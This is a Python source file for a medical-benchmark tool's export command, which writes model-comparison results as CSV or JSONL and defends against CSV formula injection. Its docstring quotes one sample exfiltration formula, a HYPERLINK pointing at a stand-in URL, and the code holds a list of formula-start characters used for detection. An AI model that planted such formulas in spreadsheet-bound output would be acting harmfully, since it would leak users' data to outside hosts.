"""``medbench-local export``: per-item or aggregated results as CSV or JSONL, for analysis elsewhere.

Why CSV cells are neutralised: a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return)
is executed as a formula when the file is opened in a spreadsheet, and model outputs are text we do not
control (``=HYPERLINK("http://...?"&A1)`` would send a neighbouring cell away). Following OWASP's advice such
cells get a leading single quote, which spreadsheets show as text. JSONL stays verbatim (it is for programs).

Why flat rows: a spreadsheet or ``pandas.read_csv`` cannot filter on JSON inside a cell, so every metric is a
column of its own (``metric_<name>``; the union over the rows, empty where a row has no such metric), in CSV and
JSONL alike. The aggregate numbers are ``compare``'s own (``analysis.paired.compare_pairs``), never recomputed
another way.
"""

from __future__ import annotations

import csv
import json
import sys
from collections.abc import Collection, Sequence
from pathlib import Path
from typing import IO, Any

import click
import sqlite_utils

from ..analysis.pair_sources import PairSource, check_models
from ..analysis.paired import MetricComparison, PairReport, compare_pairs
from ..analysis.pairing import pair_evaluations, pairing_columns
from ..gates.files import atomic_open, check_output_target, database_files
from ..gates.stored import load_metrics
from ..store.database import reading
from ..store.queries import INPUT_COLUMNS, evaluation_keys, item_rows, model_tasks, summarize_evaluation
from ..tasks.base import OUTCOMES
from .common import db_option, pair_options, selected_pairs, split_commas, task_option
from .declare import OutputPath, declare
from .limits import RESAMPLES, STATS_SEED

# What a spreadsheet reads as the start of a formula (OWASP "CSV injection"), plus their full-width forms,
# which some spreadsheet locales normalise to the ASCII ones.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet will execute: text starting like a formula gets a leading ``'``.
    Numbers stay numbers (a negative score is data, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def compared_roles(db: sqlite_utils.Database, pair_list: Sequence[PairSource]) -> dict[str, list[tuple[str, str]]]:
    """Evaluation key -> [(pair name, role)] for every evaluation that ``compare`` compares in these pairs
    (the pairing rule of analysis/pairing.py; superseded evaluations are not compared)."""
    ran = model_tasks(db)
    found: dict[str, list[tuple[str, str]]] = {}
    for pair in pair_list:
        tasks = {t for m, t in ran if m == pair.biomedical} & {t for m, t in ran if m == pair.general}
        for task in sorted(tasks):
            for group in pair_evaluations(db, pair.biomedical, pair.general, task)[0]:
                found.setdefault(group.biomedical, []).append((pair.name, "biomedical"))
                found.setdefault(group.general, []).append((pair.name, "general"))
    return found


def _keep(model_id: str, task: str, models: Collection[str], tasks: Collection[str]) -> bool:
    return (not models or model_id in models) and (not tasks or task in tasks)


def _item_rows(db: sqlite_utils.Database, pair_list: Sequence[PairSource], only_pairs: bool, models: Collection[str],
               tasks: Collection[str], omit_inputs: bool) -> list[dict[str, Any]]:
    """One row per item of an evaluation, and per pair that compares the evaluation (pair, role); evaluations no
    pair compares appear once with an empty pair and their stored role, unless pairs were asked for."""
    roles = compared_roles(db, pair_list)
    data = pairing_columns(db, pair_list)
    rows: list[dict[str, Any]] = []
    for item in item_rows(db):
        score_row = item.pop("score_row")
        if not _keep(item["model_id"], item["task"], models, tasks):
            continue
        metrics = load_metrics(item.pop("metrics"), score_row)
        stored_role = item.pop("evaluation_role")
        if omit_inputs:
            for column in INPUT_COLUMNS:
                item.pop(column, None)
        where = data.get(item["evaluation"], {})
        sides = roles.get(item["evaluation"]) or ([] if only_pairs else [(None, stored_role)])
        for pair, role in sides:
            rows.append({"pair": pair, "role": role, **item, "data_name": where.get("data_name"),
                         "data_sha256": where.get("data_sha256"),
                         **{f"metric_{name}": value for name, value in metrics.items()}})
    return rows


def _group_columns(row: MetricComparison) -> dict[str, Any]:
    return {"task": row.task, "data_name": None if row.data is None else row.data.name,
            "data_sha256": None if row.data is None else row.data.sha256,
            "scoring_mode": "generate" if row.data is None else row.data.mode,
            "different_data": row.different_data}


def comparison_rows(reports: list[PairReport]) -> list[dict[str, Any]]:
    """compare's numbers as flat rows: per pair x role x task x data x mode, each metric's estimate with its 95%
    CI ("model" rows); per pair x task x data x mode, each metric's difference with its CI, test, p-values (numbers,
    unrounded, for analysis) and compare's verdict in words ("delta")."""
    rows: list[dict[str, Any]] = []
    for report in reports:
        groups: dict[tuple[str, str, str], list[MetricComparison]] = {}
        for row in report.rows:
            groups.setdefault((row.group_label, row.evaluations["biomedical"], row.evaluations["general"]),
                              []).append(row)
        for group in groups.values():
            first = group[0]
            for role, model in (("biomedical", report.biomedical_model), ("general", report.general_model)):
                line: dict[str, Any] = {"row": "model", "pair": report.pair, "role": role, "model_id": model,
                                        "evaluation": first.evaluations[role], **_group_columns(first),
                                        "n": max(r.n for r in group)}
                for r in group:
                    interval = getattr(r, role)
                    line.update({f"metric_{r.metric}": interval.estimate, f"metric_{r.metric}_ci_low": interval.low,
                                 f"metric_{r.metric}_ci_high": interval.high, f"metric_{r.metric}_n": r.n})
                line.update({f"n_{k}": first.outcomes.get(role, {}).get(k, 0) for k in OUTCOMES})
                line["truncated_rate"] = first.truncated_rate.get(role)
                rows.append(line)
            delta: dict[str, Any] = {"row": "delta", "pair": report.pair, "biomedical_model": report.biomedical_model,
                                     "general_model": report.general_model,
                                     "biomedical_evaluation": first.evaluations["biomedical"],
                                     "general_evaluation": first.evaluations["general"], **_group_columns(first),
                                     "n": max(r.n for r in group)}
            for r in group:
                delta.update({f"delta_{r.metric}": r.delta.estimate, f"delta_{r.metric}_ci_low": r.delta.low,
                              f"delta_{r.metric}_ci_high": r.delta.high, f"delta_{r.metric}_n": r.n,
                              f"delta_{r.metric}_test": r.test, f"delta_{r.metric}_p": r.p_value,
                              f"delta_{r.metric}_p_adjusted": r.p_adjusted,
                              f"delta_{r.metric}_ahead": r.ahead, f"delta_{r.metric}_verdict": r.verdict})
            rows.append(delta)
    return rows


def _aggregate_rows(db: sqlite_utils.Database, pair_list: Sequence[PairSource], only_pairs: bool,
                    models: Collection[str], tasks: Collection[str], resamples: int, seed: int) -> list[dict[str, Any]]:
    reports = compare_pairs(db, pair_list, task_filter=tuple(tasks), resamples=resamples, seed=seed)
    rows = [row for row in comparison_rows(reports)
            if not models or {row.get("model_id"), row.get("biomedical_model"), row.get("general_model")} & set(models)]
    pairing = pairing_columns(db, pair_list)  # the same pairing rule as compare: data, pair, counterpart, status
    compared = compared_roles(db, pair_list)
    for key in evaluation_keys(db):
        s = summarize_evaluation(db, key)
        if not _keep(s.model_id, s.task, models, tasks) or (only_pairs and key not in compared):
            continue
        where = pairing.get(key, {})
        role = next((r for name, r in compared.get(key, []) if name == where.get("pair")), None)
        rows.append({"row": "evaluation", "role": role, "model_id": s.model_id, "model_sha256": s.model_sha256, "task": s.task,
                     "evaluation": s.key, "n": s.n, **{f"metric_{k}": v for k, v in s.metrics.items()},
                     **{f"n_{k}": s.outcomes.get(k, 0) for k in OUTCOMES}, **where})
    return rows


def _columns(rows: list[dict[str, Any]]) -> list[str]:
    """Every column of every row, in first-seen order (the union: a row without a metric leaves it empty)."""
    columns: dict[str, None] = {}
    for row in rows:
        columns.update(dict.fromkeys(row))
    return list(columns)


def _write(rows: list[dict[str, Any]], fmt: str, handle: IO[str]) -> None:
    columns = _columns(rows)
    if fmt == "jsonl":
        for row in rows:
            handle.write(json.dumps({c: row.get(c) for c in columns}, ensure_ascii=False) + "\n")
        return
    writer = csv.DictWriter(handle, fieldnames=columns, restval="")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: neutralise_cell("" if v is None else v) for k, v in row.items()})


@declare(reads=("database", "config"), writes=("output",),
         example=("export", "--db", "{db}", "--config", "{config}", "-o", "{out}"))
@click.command("export")
@db_option
@click.option("--format", "fmt", type=click.Choice(["csv", "jsonl"]), default="csv", show_default=True,
              help="csv (one column per metric, formula-like cells neutralised) or jsonl (one JSON object per row, "
                   "the same columns, verbatim).")
@click.option("--aggregate", is_flag=True,
              help="Instead of one row per item: compare's numbers ('model' rows: each metric's score with its 95% "
                   "CI per pair, role, task, data and scoring mode; 'delta' rows: biomedical − general with its CI, "
                   "test, p, Holm-adjusted p and the verdict in words) and one 'evaluation' row per evaluation (n, "
                   "means, outcome counts, data, and how compare pairs it: pair, paired_with, pairing).")
@pair_options
@task_option("Only these tasks (repeatable, or comma-separated: --task nejm,jama).")
@click.option("--model", "model_filter", multiple=True, metavar="ID[,ID...]", callback=split_commas,
              help="Only these models' rows (repeatable, or comma-separated).")
@click.option("--omit-inputs", is_flag=True, help="Leave the rendered prompts (which contain the case text) out.")
@click.option("--resamples", type=RESAMPLES, default=10_000, show_default=True,
              help="With --aggregate: bootstrap / permutation resamples, as in compare.")
@click.option("--seed", type=STATS_SEED, default=0, show_default=True,
              help="With --aggregate: seed of the resampling, as in compare (same seed, same numbers).")
@click.option("-o", "--output", "out_path", type=OutputPath(),
              help="Write to this file instead of standard output: created owner-only (0600) and replaced "
                   "atomically; the results database, a symbolic link or a missing folder is refused.")
def export_command(db_path: Path, fmt: str, aggregate: bool, pair_filter: tuple[str, ...],
                   model_pair: tuple[str, str] | None, config_path: Path | None, task_ids: tuple[str, ...],
                   model_filter: tuple[str, ...], omit_inputs: bool, resamples: int, seed: int,
                   out_path: Path | None) -> None:
    """Export results per item (default) or aggregated, as CSV or JSONL.

    Per item: one row per item of each evaluation with pair and role (an evaluation that several pairs compare
    appears once per pair; one that no pair compares once, with an empty pair and its stored role), the data
    name and SHA-256, and metric_<name> columns. --pair/--models keep the evaluations compare compares for those
    pairs (pairs from the database and models.toml, or any two models); --task and --model filter further. An
    unknown pair, task or model is an error naming those that exist.

    CSV cells that a spreadsheet would execute as a formula (starting with =, +, -, @, tab or carriage
    return) are prefixed with a single quote; JSONL is written verbatim.

    \b
    Examples:
      medbench-local export --db results.db -o items.csv
      medbench-local export --db results.db --pair demo --task jama \\
          --omit-inputs -o jama.csv
      medbench-local export --db results.db --format jsonl \\
          --omit-inputs -o outputs.jsonl
      medbench-local export --db results.db --aggregate -o summary.csv
      medbench-local export --db study.db --aggregate \\
          --models openbiollm-70b llama3-70b-instruct
    """
    if out_path is not None:  # refuse a bad target before reading anything
        check_output_target(out_path, protect=database_files(db_path))
    with reading(db_path) as db:  # stored JSON is parsed inside, where damage is diagnosed as one line
        selection = selected_pairs(db, db_path, config_path, pair_filter, model_pair, task_ids)
        check_models(db, model_filter, str(db_path))
        only_pairs = bool(pair_filter or model_pair)
        rows = _aggregate_rows(db, selection.pairs, only_pairs, model_filter, task_ids, resamples, seed) \
            if aggregate else _item_rows(db, selection.pairs, only_pairs, model_filter, task_ids, omit_inputs)
    if out_path is None:
        _write(rows, fmt, sys.stdout)
        return
    with atomic_open(out_path, "w", protect=database_files(db_path)) as handle:
        _write(rows, fmt, handle)
    count = len(rows)
    click.echo(f"wrote {count} row{'' if count == 1 else 's'} to {out_path}", err=True)
